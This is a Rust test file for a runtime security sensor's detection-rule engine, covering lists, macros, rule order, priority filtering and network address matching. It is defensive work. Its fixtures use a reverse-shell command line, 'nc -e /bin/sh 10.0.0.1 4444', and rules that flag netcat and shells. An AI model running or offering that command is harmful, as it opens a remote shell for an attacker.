//! Macros, lists, order, selection, networks.

use std::net::Ipv4Addr;

use super::{Options, container, matches, netcat, rule, rules, rules_with, verdict};
use crate::{
    enrich::ContainerState,
    event::{Kind, builder::RecordBuilder},
    rules::{Matching, Priority, Select, Selection},
};

#[test]
fn macros_and_lists_stand_for_what_they_are() {
    let text = "
- list: shells
  items: [bash, zsh]
- list: tools
  items: [shells, nc, 'n c']
- macro: spawned_process
  condition: (evt.type in (execve, execveat))
- macro: tool
  condition: spawned_process and proc.name in (tools)
- rule: tool
  desc: d
  condition: tool and not proc.name in (shells, ash)
  output: o
  priority: INFO
";
    assert_eq!(
        matches(&rules(text), &netcat(), ContainerState::Host),
        ["tool"]
    );
}

#[test]
fn an_empty_list_has_no_item() {
    let text = format!(
        "- list: none\n  items: []\n{}",
        rule("r", "proc.name in (none, nc)")
    );
    assert_eq!(
        matches(&rules(&text), &netcat(), ContainerState::Host),
        ["r"]
    );
    let text = format!(
        "- list: none\n  items: []\n{}",
        rule("r", "proc.name in (none)")
    );
    assert!(matches(&rules(&text), &netcat(), ContainerState::Host).is_empty());
}

#[test]
fn a_list_of_one_item_can_be_a_value() {
    let text = format!(
        "- list: one\n  items: [nc]\n{}",
        rule("r", "proc.name = one")
    );
    assert_eq!(
        matches(&rules(&text), &netcat(), ContainerState::Host),
        ["r"]
    );
}

#[test]
fn the_first_rule_wins_or_all_do() {
    let text =
        rule("a", "proc.name = x") + &rule("b", "proc.name = nc") + &rule("c", "proc.pid > 0");
    assert_eq!(
        matches(&rules(&text), &netcat(), ContainerState::Host),
        ["b"]
    );
    let all = Options {
        matching: Matching::All,
        ..Options::default()
    };
    assert_eq!(
        matches(&rules_with(&text, &all), &netcat(), ContainerState::Host),
        ["b", "c"]
    );
}

#[test]
fn rules_below_the_priority_are_not_loaded() {
    let text = rule("a", "proc.pid > 0") + &rule("b", "proc.pid > 0").replace("DEBUG", "notice");
    let options = Options {
        priority: Priority::Notice,
        ..Options::default()
    };
    let set = rules_with(&text, &options);
    assert_eq!(set.rules().len(), 1);
    assert_eq!(matches(&set, &netcat(), ContainerState::Host), ["b"]);
}

#[test]
fn the_selection_switches_rules_in_order() {
    let tagged = rule("one two", "proc.pid > 0") + "  tags: [t]\n";
    let text = tagged + &rule("b", "proc.pid > 0");
    let select = |enable, select| Selection { enable, select };
    let options = Options {
        matching: Matching::All,
        selection: vec![
            select(false, Select::Name("*".into())),
            select(true, Select::Tag("t".into())),
        ],
        ..Options::default()
    };
    assert_eq!(
        matches(
            &rules_with(&text, &options),
            &netcat(),
            ContainerState::Host
        ),
        ["one two"]
    );
}

fn connect_to(address: [u8; 4], port: u16) -> RecordBuilder {
    use sensor_ebpf::Connect;
    let mut connect = Connect::default();
    let v4 = Ipv4Addr::from(address).octets();
    connect.family = 2;
    connect.socket_type = 1;
    connect.given_family = 2;
    connect.given_port = port;
    connect.given[..4].copy_from_slice(&v4);
    connect.protocol = 6;
    connect.remote_port = port;
    connect.remote[..4].copy_from_slice(&v4);
    connect.local_port = 40_000;
    connect.local[..4].copy_from_slice(&[10, 1, 2, 3]);
    RecordBuilder::connect(connect)
}

#[test]
fn addresses_and_networks_are_compared() {
    let record = connect_to([93, 184, 216, 34], 443);
    assert_eq!(record.kind, Kind::Connect);
    for (condition, expected) in [
        ("fd.sip = 93.184.216.34", true),
        ("fd.sip = \"93.184.216.34\"", true),
        ("fd.sip != 93.184.216.34", false),
        ("fd.sip in (1.1.1.1, 93.184.216.34)", true),
        ("fd.snet in (\"93.184.0.0/16\")", true),
        ("fd.snet in (10.0.0.0/8)", false),
        ("fd.snet != 10.0.0.0/8", true),
        ("fd.ip = 10.1.2.3", true),
        ("fd.ip = 93.184.216.34", true),
        ("fd.ip != 10.1.2.3", false),
        ("fd.ip != 10.9.9.9", true),
        ("fd.net = 10.0.0.0/8", true),
        ("fd.sport = 443", true),
        ("fd.sport in (80, 443)", true),
        ("not fd.sport in (80, 8080)", true),
        ("fd.port = 40000", true),
        ("evt.type = connect", true),
        ("evt.type in (execve, execveat)", false),
        ("proc.exe_ino > 0 or proc.args exists or proc.pid > 0", true),
    ] {
        assert_eq!(
            verdict(condition, &record, ContainerState::Host),
            expected,
            "{condition}"
        );
    }
}

#[test]
fn failed_execs_are_events_of_their_own() {
    let mut record = netcat();
    record.kind = Kind::ExecFailed;
    record.exec.result = -2;
    for (condition, expected) in [
        ("evt.type = execve", true),
        ("evt.failed = true", true),
        ("evt.rawres < 0", true),
        ("evt.rawres >= 0", false),
        ("evt.rawres = -2", true),
        ("evt.res = ENOENT", true),
        ("evt.res = SUCCESS", false),
    ] {
        assert_eq!(
            verdict(condition, &record, ContainerState::Host),
            expected,
            "{condition}"
        );
    }
}

#[test]
fn many_patterns_are_found_at_once_as_one_by_one() {
    let words = [
        "nc", "sh 10", "-e", "zzz", "4444", "NC", "10.0.0.1", "bin/s",
    ];
    for word in words {
        let others: Vec<_> = words
            .iter()
            .map(|w| format!("proc.cmdline contains \"{w}\""))
            .collect();
        let wanted = format!("proc.cmdline contains \"{word}\"");
        let text = rule("wanted", &wanted) + &rule("others", &others.join(" or "));
        let got = matches(&rules(&text), &netcat(), ContainerState::Host);
        let there = "nc -e /bin/sh 10.0.0.1 4444".contains(word);
        assert_eq!(got, [if there { "wanted" } else { "others" }], "{word}");
    }
}

#[test]
fn one_scratch_serves_several_sets_and_events() {
    use super::{super::Scratch, with_context};
    let sets = [
        rules(&rule("a", "proc.name = nc")),
        rules(&rule("b", "proc.pid > 0 and proc.name != nc")),
    ];
    let mut scratch = Scratch::default();
    let container = container();
    for _ in 0..3 {
        for (set, expected) in sets.iter().zip([1, 0]) {
            for state in [ContainerState::Host, ContainerState::Known(&container)] {
                let mut count = 0;
                with_context(&netcat(), state, |context| {
                    set.evaluate(&mut scratch, context, &mut |_| count += 1);
                });
                assert_eq!(count, expected);
            }
        }
    }
}

#[test]
fn a_set_can_be_shared_and_sent() {
    fn is_shared<T: Send + Sync + 'static>(_: &T) {}
    is_shared(&rules(&rule("a", "proc.name = nc")));
}
